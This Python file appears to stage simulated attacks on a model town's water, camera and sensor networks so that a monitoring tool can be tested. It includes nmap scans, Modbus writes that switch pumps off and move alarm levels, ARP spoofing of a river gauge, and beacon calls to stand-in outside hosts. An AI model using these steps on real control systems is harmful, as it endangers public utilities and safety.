"""What goes wrong. Each incident acts in the town and returns the ground truth: what an attentive engineer who holds
the plan would expect to be told, and why. It comes from the same values that the act used."""

import asyncio
import subprocess
import threading
import time

from pymodbus.client import AsyncModbusTcpClient

import readings
from daemons import CAMERA, Daemons, addresses_by_dhcp
from network import batch, command, plug_in
from place import DEVICES, DOMAIN, OUTSIDE, OUTSIDE_ADDRESSES, enter

LAPTOP, LAPTOP_MAC = "guest-laptop", "00:00:5e:00:53:f1"
FALSE_GAUGE, FALSE_GAUGE_MAC = "guest-gauge", "00:00:5e:00:53:f5"


def at(place: str, *words, seconds: float = 60) -> str:
    """Runs a program in a place, to its end, and returns what it says."""
    try:
        done = subprocess.run(
            ["ip", "netns", "exec", place, *map(str, words)],
            capture_output=True,
            text=True,
            timeout=seconds,
            stdin=subprocess.DEVNULL,
        )
        return done.stdout
    except subprocess.TimeoutExpired:
        return ""


def standing_in(place: str, work):
    """Runs Python code in a place, to its end, and returns its result."""
    result = []

    def run():
        enter(place)
        result.append(work())

    thread = threading.Thread(target=run)
    thread.start()
    thread.join(90)
    return result[0] if result else None


def laptop_address() -> str:
    lines = at(LAPTOP, "ip", "-4", "-o", "address", "show", "eth0").split()
    return lines[lines.index("inet") + 1].split("/")[0] if "inet" in lines else ""


def expect(rule: str, subject: str, why: str, **more) -> dict:
    return {"rule": rule, "subject": subject, **more, "why": why}


def leaked_password(daemons: Daemons) -> list[dict]:
    camera, desk = DEVICES["camera-07"], DEVICES["operator-3"]
    login = f"{CAMERA['user']}:{CAMERA['value']}"
    time.sleep(12)
    at(desk.id, "curl", "-s", f"http://{camera.host}/setup/index.html")
    time.sleep(4)
    for file in ("index", "network", "users"):
        at(desk.id, "curl", "-s", "-u", login, f"http://{camera.host}/setup/{file}.html")
        time.sleep(5)
    time.sleep(15)
    return [
        expect(
            "weakness",
            camera.ip,
            peer=desk.ip,
            protocol="http",
            kind="cleartext-credentials",
            why="The CCTV desk logged in to the camera's own page by HTTP basic authentication; anyone on the way can read the password",
        )
    ]


def rogue_laptop(daemons: Daemons) -> list[dict]:
    time.sleep(8)
    plug_in(LAPTOP, "libraries", LAPTOP_MAC, "guest0")
    addresses_by_dhcp(daemons, LAPTOP, "LAPTOP-7Q2")
    time.sleep(8)
    address = laptop_address()
    for url in ("http://www.daily-lantern.example/", f"http://catalogue.{DOMAIN}/", f"https://www.{DOMAIN}/"):
        at(LAPTOP, "curl", "-s", "-L", "-m", "10", "-k", url)
        time.sleep(6)
    # It looks around by name: what does the council call its machines?
    for name in ("scada-server", "pump-03", "alarm-server", "utc-server", "vpn", "camera-01"):
        at(LAPTOP, "dig", "+time=2", "+tries=1", f"{name}.{DOMAIN}")
        time.sleep(2)
    time.sleep(20)
    return [
        expect(
            "undeclared-device",
            address,
            mac=LAPTOP_MAC,
            zone="libraries",
            why="A laptop was plugged into a wall socket of the library, took an address and browsed; the plan does not know it",
        )
    ]


def scan(daemons: Daemons) -> list[dict]:
    address = laptop_address()
    time.sleep(10)
    at(LAPTOP, "nmap", "-n", "-sn", "-PE", "-T4", "192.0.2.160-183", seconds=90)
    ports = "21,22,23,80,102,443,502,1883,4840,20000,44818,47808"
    at(LAPTOP, "nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "1", "-p", ports, "192.0.2.160-175", seconds=120)
    at(LAPTOP, "nmap", "-n", "-Pn", "-sV", "--version-light", "-T4", "-p", "502,1883", "192.0.2.164", seconds=60)
    time.sleep(10)
    return [
        expect(
            "scan",
            address,
            zone="water",
            why="The laptop tried two dozen addresses of the pumping stations' network, and twelve ports on sixteen of them (nmap)",
        ),
        expect(
            "outside-conduit",
            address,
            to_zone="water",
            why="No conduit leads from the libraries to the pumping stations",
        ),
        expect("undeclared-device", address, mac=LAPTOP_MAC, zone="libraries", why="The laptop is still there"),
    ]


def modbus_write(daemons: Daemons) -> list[dict]:
    address, pump = laptop_address(), DEVICES["pump-03"]
    time.sleep(10)

    async def attack():
        client = AsyncModbusTcpClient(pump.ip, port=502, timeout=3, retries=1)
        await client.connect()
        await client.read_device_information(read_code=1, object_id=0, device_id=1)
        await client.read_coils(0, count=2, device_id=1)
        await client.read_holding_registers(10, count=4, device_id=1)
        await asyncio.sleep(8)
        # Both pumps off, and levels moved so that neither the start nor the alarm would ever come.
        await client.write_coils(0, [False, False], device_id=1)
        await client.write_register(10, 2900, device_id=1)
        await client.write_register(12, 2990, device_id=1)
        for _ in range(4):
            await asyncio.sleep(6)
            await client.read_input_registers(0, count=4, device_id=1)
        client.close()

    standing_in(LAPTOP, lambda: asyncio.run(attack()))
    time.sleep(10)

    async def repair():
        client = AsyncModbusTcpClient(pump.ip, port=502, timeout=3, retries=1)
        await client.connect()
        await client.write_coils(0, [True, True], device_id=1)
        await client.write_register(10, 1400, device_id=1)
        await client.write_register(12, 1900, device_id=1)
        client.close()

    # The operator puts it right, as the plan allows; the laptop is found and unplugged.
    standing_in("scada-server", lambda: asyncio.run(repair()))
    time.sleep(5)
    for process in daemons.running.pop(LAPTOP, []):
        process.terminate()
        process.wait()
    command("ip", "netns", "delete", LAPTOP)
    time.sleep(10)
    return [
        expect(
            "outside-conduit",
            address,
            peer=pump.ip,
            protocol="modbus",
            why="The laptop in the library spoke Modbus to the pumping station; no conduit leads there",
        ),
        *(
            expect(
                "verb-not-allowed",
                address,
                peer=pump.ip,
                protocol="modbus",
                verb=verb,
                why=f"The laptop {what}; the plan allows this to the control centre alone",
            )
            for verb, what in (
                ("operate", "switched both pumps off (coils 0..1)"),
                ("write", "moved the start level and the high alarm (holding registers 10 and 12)"),
            )
        ),
        *(
            expect(
                "first-seen-verb",
                pump.ip,
                peer=address,
                protocol="modbus",
                verb=verb,
                after_quiet_day=True,
                why="Nobody but the telemetry server ever asked this of the station",
            )
            for verb in ("operate", "write")
        ),
        *(
            expect(
                "first-seen-verb",
                pump.ip,
                peer=address,
                protocol="modbus",
                verb=verb,
                after_quiet_day=True,
                optional=True,
                why="The laptop looked before it acted",
            )
            for verb in ("discover", "read")
        ),
        expect(
            "weakness",
            pump.ip,
            peer=address,
            protocol="modbus",
            kind="unauthenticated-control",
            why="The controller obeyed without asking who ordered it",
        ),
        expect("undeclared-device", address, mac=LAPTOP_MAC, zone="libraries", why="The laptop is still there"),
    ]


def false_level(daemons: Daemons) -> list[dict]:
    gauge, broker = DEVICES["gauge-01"], DEVICES["broker"]
    topic = next(feed["topic"] for feed in readings.FEEDS if feed["asset"] == gauge.id)
    time.sleep(15)
    plug_in(FALSE_GAUGE, "water", FALSE_GAUGE_MAC, "guest1", [gauge.ip])

    def claim():
        at(FALSE_GAUGE, "arping", "-q", "-c", "2", "-U", "-I", "eth0", gauge.ip)
        at(FALSE_GAUGE, "arping", "-q", "-c", "1", "-A", "-I", "eth0", gauge.ip)

    for level in (1.9, 2.6, 3.4, 4.1, 4.7):
        claim()
        value = f'{{"value": {level}, "unit": "m", "time": {int(time.time())}}}'
        standing_in(FALSE_GAUGE, lambda: publish(gauge.id, topic, value))
        time.sleep(12)
    command("ip", "netns", "delete", FALSE_GAUGE)
    # The true gauge is heard again as soon as the gateway learns it anew.
    at(gauge.id, "arping", "-q", "-c", "2", "-U", "-I", "eth0", gauge.ip)
    time.sleep(25)
    return [
        expect(
            "address-conflict",
            gauge.ip,
            macs=[gauge.mac, FALSE_GAUGE_MAC],
            why="A second device announced the gauge's address by ARP and published levels of 1.9 to 4.7 m in its name; the river stood near 1.2 m",
        ),
        expect(
            "weakness",
            broker.ip,
            peer=gauge.ip,
            protocol="mqtt",
            kind="cleartext-credentials",
            why="Gauges log in without TLS, which is how the impostor knew the password",
        ),
    ]


def publish(name: str, topic: str, value: str) -> None:
    try:
        readings.send_level(name, topic, value)
    except OSError:
        pass


def call_out(daemons: Daemons) -> list[dict]:
    server, camera = DEVICES["twin-server"], DEVICES["camera-03"]
    beacon, relay = OUTSIDE_ADDRESSES["updates.quietharbour.example"], OUTSIDE_ADDRESSES["relay.quietharbour.example"]
    listener = subprocess.Popen(
        ["ip", "netns", "exec", OUTSIDE, "python3", "-c", LISTENER, relay], stdin=subprocess.DEVNULL
    )
    time.sleep(12)
    for round in range(6):
        at(
            server.id,
            "curl",
            "-s",
            "-k",
            "-m",
            "8",
            "-d",
            "id=7f3a&seq=%d" % round,
            "https://updates.quietharbour.example/post",
        )
        if round in (1, 3, 4):
            at(camera.id, "python3", "-c", CALLER, relay, seconds=15)
        time.sleep(9)
    listener.terminate()
    listener.wait()
    time.sleep(10)
    return [
        expect(
            "new-destination",
            server.ip,
            peer=beacon,
            after_quiet_day=True,
            why="The twin's server may fetch from the internet, but only ever fetched the forecast; now it posts to a new place every ten seconds",
        ),
        expect(
            "weakness",
            beacon,
            peer=server.ip,
            protocol="tls",
            kind="certificate-self-signed",
            optional=True,
            why="The place's certificate is signed by nobody but itself; optional, for the place is not the city's",
        ),
        expect(
            "new-destination",
            camera.ip,
            peer=relay,
            after_quiet_day=True,
            why="A camera opened a connection to a place outside the city, port 4444",
        ),
        expect("outside-conduit", camera.ip, peer=relay, why="No conduit leads from the cameras to the internet"),
    ]


# The two ends of the camera's call, by Python's own sockets: no program of the town would speak to such a port.
LISTENER = """
import socket, sys
server = socket.create_server((sys.argv[1], 4444))
while True:
    call, _ = server.accept()
    call.recv(100)
    call.sendall(b"\\x01\\x00\\x00\\x10" + bytes(range(16)))
    call.close()
"""
CALLER = """
import socket, sys
call = socket.create_connection((sys.argv[1], 4444), 5)
call.sendall(b"\\x01\\x00\\x00\\x20" + bytes(range(32)))
call.recv(100)
call.close()
"""


def silent_controller(daemons: Daemons) -> list[dict]:
    pump = DEVICES["pump-04"]
    time.sleep(15)
    batch(["link set eth0 down"], pump.id)
    time.sleep(150)
    batch(["link set eth0 up", "route add default via 192.0.2.161"], pump.id)
    time.sleep(20)
    return [
        expect(
            "silent-device",
            pump.ip,
            silent_for="150s",
            why="The pumping station at the station subway lost power; the telemetry server asks and nobody answers",
        )
    ]


def weaknesses_of_the_town() -> list[dict]:
    """What is insecure by design and shows on a quiet day: true, known, and on somebody's list."""

    def weak(kind, device, protocol, peer, why):
        more = {"peer": DEVICES[peer].ip} if peer else {}
        return expect("weakness", DEVICES[device].ip, protocol=protocol, kind=kind, **more, why=why)

    panel = "The old boiler panel speaks nothing newer"
    return [
        *(
            weak("cleartext-credentials", "broker", "mqtt", peer, "Logs in to the broker without TLS")
            for peer in ("gauge-01", "gauge-02", "gauge-03", "gauge-04", "historian")
        ),
        *(
            weak("anonymous-login", "broker", "mqtt", peer, "Is let in by the broker without a name")
            for peer in ("bin-01", "bin-02", "bin-03")
        ),
        weak("anonymous-login", "heat-controller", "opcua", "scada-server", "Lets anyone in without a name"),
        weak("obsolete-tls", "boiler-panel", "tls", None, panel + " than TLS 1.0"),
        weak("certificate-expired", "boiler-panel", "tls", None, "The panel's certificate ended on 2019-05-10"),
        weak("certificate-self-signed", "boiler-panel", "tls", None, "The panel signed its certificate itself"),
        weak("certificate-weak", "boiler-panel", "tls", None, "The panel's key is RSA with 1024 bits"),
        *(
            weak("unauthenticated-control", station, "modbus", "scada-server", "Obeys Modbus without asking who orders")
            for station in ("pump-02", "pump-03", "pump-05")
        ),
        *(
            weak("unauthenticated-control", building, "bacnet", "bms", "Obeys BACnet without asking who orders")
            for building in ("building-01", "building-03")
        ),
        *(
            weak("unauthenticated-control", f"lighting-{n:02}", "coap", "lighting-server", "Obeys CoAP without asking who orders")
            for n in range(1, 9)
        ),
        *(
            weak("cleartext-credentials", junction, "snmp", "utc-server", "Is set by a community that anyone can read")
            for junction in ("junction-02", "junction-10")
        ),
    ]


# In the order in which they happen. One tells of the next: the laptop of the third scans in the fourth.
STORY = [
    ("2-leaked-password", leaked_password),
    ("3-rogue-laptop", rogue_laptop),
    ("4-scan", scan),
    ("5-modbus-write", modbus_write),
    ("6-false-level", false_level),
    ("7-call-out", call_out),
    ("8-silent-controller", silent_controller),
]
